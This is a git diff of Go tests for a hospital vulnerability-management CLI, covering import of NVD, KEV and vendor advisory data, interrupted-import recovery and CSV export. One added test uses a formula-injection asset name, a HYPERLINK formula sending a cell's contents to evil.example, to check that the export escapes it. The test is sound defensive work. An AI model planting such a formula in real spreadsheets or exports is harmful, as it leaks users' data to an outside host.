@@ -5,9 +5,7 @@ import (
 	"context"
 	"encoding/csv"
 	"encoding/json"
-	"fmt"
 	"io"
-	"os"
 	"path/filepath"
 	"strings"
 	"testing"
@@ -23,33 +21,18 @@ import (
 )
 
 func TestVulnCommands(t *testing.T) {
-	dir := t.TempDir()
-	out, err := runCLI(t, dir, "org", "add", "--name", "脆弱性病院", "--kind", "hospital")
-	if err != nil {
-		t.Fatalf("org add: %v %s", err, out)
-	}
-	org := strings.TrimSpace(out)
-	assets := filepath.Join(dir, "assets.csv")
-	if err := os.WriteFile(assets, []byte("名称,種別,メーカー,製品名,バージョン\n玄関FW,ネットワーク機器,Fortinet,FortiGate,7.2.2\n"), 0o600); err != nil {
-		t.Fatal(err)
-	}
+	dir, org := cliHospital(t, "脆弱性病院")
+	assets := testkit.WriteFile(t, dir, "assets.csv", []byte("名称,種別,メーカー,製品名,バージョン\n玄関FW,ネットワーク機器,Fortinet,FortiGate,7.2.2\n"))
 	if out, err := runCLI(t, dir, "inventory", "import", "--org", org, assets); err != nil {
 		t.Fatalf("inventory import: %v %s", err, out)
 	}
 	td := filepath.Join("..", "vuln", "testdata")
-	out, err = runCLI(t, dir, "vuln", "import", filepath.Join(td, "nvd", "CVE-2022-42475.json"), filepath.Join(td, "kev"), filepath.Join(td, "fortinet", "FG-IR-22-398.json"))
+	out, err := runCLI(t, dir, "vuln", "import", filepath.Join(td, "nvd", "CVE-2022-42475.json"), filepath.Join(td, "kev"), filepath.Join(td, "fortinet", "FG-IR-22-398.json"))
 	if err != nil {
 		t.Fatalf("vuln import: %v %s", err, out)
 	}
-	for _, want := range []string{"CVE-2022-42475.json: nvd, 1 records", "kev_trimmed.json: kev, 20 records", "FG-IR-22-398.json: fortinet"} {
-		if !strings.Contains(out, want) {
-			t.Errorf("import output lacks %q:\n%s", want, out)
-		}
-	}
-	bad := filepath.Join(dir, "bad.json")
-	if err := os.WriteFile(bad, []byte(`{"resultsPerPage":1,"startIndex":0,"totalResults":1,"format":"NVD_CVE","version":"2.0","vulnerabilities":[{"cve":{"id":"CVE-1"}}]}`), 0o600); err != nil {
-		t.Fatal(err)
-	}
+	testkit.ContainsAll(t, "import output", out, "CVE-2022-42475.json: nvd, 1 records", "kev_trimmed.json: kev, 20 records", "FG-IR-22-398.json: fortinet")
+	bad := testkit.WriteFile(t, dir, "bad.json", []byte(`{"resultsPerPage":1,"startIndex":0,"totalResults":1,"format":"NVD_CVE","version":"2.0","vulnerabilities":[{"cve":{"id":"CVE-1"}}]}`))
 	out, err = runCLI(t, dir, "vuln", "import", bad)
 	if err == nil || !strings.Contains(out, "bad.json: rejected:") || !strings.Contains(out, "登録済みのデータはそのまま") {
 		t.Errorf("bad file: %v %s", err, out)
@@ -153,30 +136,80 @@ func TestVulnFindingsExportAll(t *testing.T) {
 	})
 }
 
+// TestVulnFindingsCSVFormula: an asset name that a spreadsheet would run
+// as a formula is written into the findings CSV with a leading apostrophe.
+func TestVulnFindingsCSVFormula(t *testing.T) {
+	dbtest.Each(t, func(t *testing.T, d *db.DB) {
+		ctx := context.Background()
+		now := testkit.Start
+		org := seed.Org(t, d, auth.OrgInput{Kind: auth.KindHospital, Name: "書き出し病院", Prefecture: "東京都"}, now)
+		name := `=HYPERLINK("http://evil.example/?"&A1,"詳細")`
+		a, err := inventory.CreateAsset(ctx, d, org.ID, "", inventory.Asset{Name: name, Kind: inventory.KindNetwork}, now)
+		if err != nil {
+			t.Fatal(err)
+		}
+		seed.Findings(t, d, org.ID, []string{a.ID}, 1, now, func(int) seed.Finding { return seed.Finding{Active: true, Priority: 1, Rank: 1} })
+		var out bytes.Buffer
+		if err := streamFindings(ctx, d, org.ID, vuln.FindingFilter{}, "csv", &out); err != nil {
+			t.Fatal(err)
+		}
+		rows, err := csv.NewReader(&out).ReadAll()
+		if err != nil || len(rows) != 2 {
+			t.Fatalf("csv %v %q", err, out.String())
+		}
+		if rows[1][0] != "'"+name {
+			t.Errorf("asset name cell %q", rows[1][0])
+		}
+	})
+}
+
+// TestVulnImportShowsInterrupted: an import whose process died (running,
+// heartbeat long past) is marked by the next `medisac vuln import`, which
+// lists it with what to do until the same file is imported completely.
+func TestVulnImportShowsInterrupted(t *testing.T) {
+	dir := t.TempDir()
+	if out, err := runCLI(t, dir, "migrate"); err != nil {
+		t.Fatalf("migrate: %v %s", err, out)
+	}
+	ctx := context.Background()
+	d, err := db.Open(ctx, filepath.Join(dir, "medisac.db"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer d.Close()
+	long := time.Now().Add(-time.Hour)
+	if _, err := d.Exec(ctx, `INSERT INTO vuln_imports (id, at, name, format, records, ok, state, heartbeat, matched) VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?)`,
+		db.NewID(), long, "kev_trimmed.json", "kev", 20, false, vuln.ImportRunning, long, false); err != nil {
+		t.Fatal(err)
+	}
+	kev := filepath.Join("..", "vuln", "testdata", "kev", "kev_trimmed.json")
+	epss := filepath.Join("..", "vuln", "testdata", "epss", "epss_scores-2023-03-07.csv.gz")
+	out, err := runCLI(t, dir, "vuln", "import", epss)
+	if err != nil || !strings.Contains(out, "kev_trimmed.json") || !strings.Contains(out, "取り込みが途中で止まりました（kev_trimmed.json）。同じファイルをもう一度取り込むと完了します。") {
+		t.Fatalf("import after a killed one: %v\n%s", err, out)
+	}
+	var matched bool
+	var state string
+	if err := d.QueryRow(ctx, `SELECT state, matched FROM vuln_imports WHERE name = ?`, "kev_trimmed.json").Scan(&state, &matched); err != nil || state != vuln.ImportInterrupted || !matched {
+		t.Fatalf("killed import: %q matched=%v %v", state, matched, err)
+	}
+	if out, err := runCLI(t, dir, "vuln", "import", kev); err != nil || !strings.Contains(out, "kev_trimmed.json: kev, 20 records") {
+		t.Fatalf("import again: %v\n%s", err, out)
+	}
+	if out, err := runCLI(t, dir, "vuln", "import", epss); err != nil || strings.Contains(out, "途中で止まりました") {
+		t.Fatalf("after completing: %v\n%s", err, out)
+	}
+}
+
 func BenchmarkStreamFindings(b *testing.B) {
 	ctx := context.Background()
 	d := dbtest.SQLite(b)
-	now := time.Date(2026, 4, 1, 0, 0, 0, 0, time.UTC)
-	org, err := auth.CreateOrg(ctx, d, auth.OrgInput{Kind: auth.KindHospital, Name: "大病院", Prefecture: "東京都"}, now)
-	if err != nil {
-		b.Fatal(err)
-	}
-	a, err := inventory.CreateAsset(ctx, d, org.ID, "", inventory.Asset{Name: "機器", Kind: inventory.KindNetwork}, now)
-	if err != nil {
-		b.Fatal(err)
-	}
-	err = d.InTx(ctx, func(tx *db.Tx) error {
-		for i := range 20000 {
-			if _, err := tx.Exec(ctx, `INSERT INTO vuln_findings (id, org_id, asset_id, vuln_id, confidence, priority, rank, first_seen, changed_at) VALUES (?, ?, ?, ?, 'exact', ?, ?, ?, ?)`,
-				db.NewID(), org.ID, a.ID, fmt.Sprintf("CVE-2099-%05d", i), 1+i%4, i%100, now, now); err != nil {
-				return err
-			}
-		}
-		return nil
+	now := testkit.Start
+	org := seed.Org(b, d, auth.OrgInput{Kind: auth.KindHospital, Name: "大病院", Prefecture: "東京都"}, now)
+	assets := seed.Devices(b, d, org.ID, "機器%d", inventory.KindNetwork, 1, now)
+	seed.Findings(b, d, org.ID, assets, 20000, now, func(i int) seed.Finding {
+		return seed.Finding{Active: true, Priority: 1 + i%4, Rank: i % 100}
 	})
-	if err != nil {
-		b.Fatal(err)
-	}
 	for b.Loop() {
 		if err := streamFindings(ctx, d, org.ID, vuln.FindingFilter{}, "csv", io.Discard); err != nil {
 			b.Fatal(err)
